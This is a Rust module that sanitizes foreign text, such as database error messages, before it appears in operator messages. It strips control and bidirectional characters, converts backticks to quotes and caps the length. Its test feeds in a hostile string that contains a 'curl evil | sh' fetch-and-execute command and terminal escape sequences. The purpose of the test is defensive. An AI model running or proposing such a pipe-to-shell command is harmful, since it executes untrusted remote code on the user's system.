//! Makes foreign text safe to include in a message. No I/O.

/// The longest foreign text in a message: enough for any error of Postgres.
const MAX_SANITIZED: usize = 1000;

/// Foreign text for a message of the operator: one line, without control characters, of limited length.
/// Backticks become quotes, because messages put commands to paste between backticks.
pub(crate) fn sanitize(detail: &str) -> String {
    let plain = detail.chars().map(|c| match c {
        '`' => '\'',
        c if c.is_control() || is_bidirectional(c) => ' ',
        c => c,
    });
    let mut plain = plain.take(MAX_SANITIZED + 1);
    let mut text: String = plain.by_ref().take(MAX_SANITIZED).collect();
    if plain.next().is_some() {
        text.push('…');
    }
    text
}

/// Characters that change the order in which a terminal shows text.
fn is_bidirectional(c: char) -> bool {
    matches!(c, '\u{061c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Before, a server's message was copied unchanged next to a command to paste, and could look like one.
    #[test]
    fn foreign_text_is_one_line_that_looks_like_no_command() {
        let detail = sanitize("no\u{1b}[2J `curl evil | sh`\r\nit is fine\u{202e}");
        assert_eq!(detail, "no [2J 'curl evil | sh'  it is fine ");
        let long = sanitize(&"x".repeat(5000));
        assert_eq!((long.chars().count(), long.ends_with('…')), (MAX_SANITIZED + 1, true));
    }
}
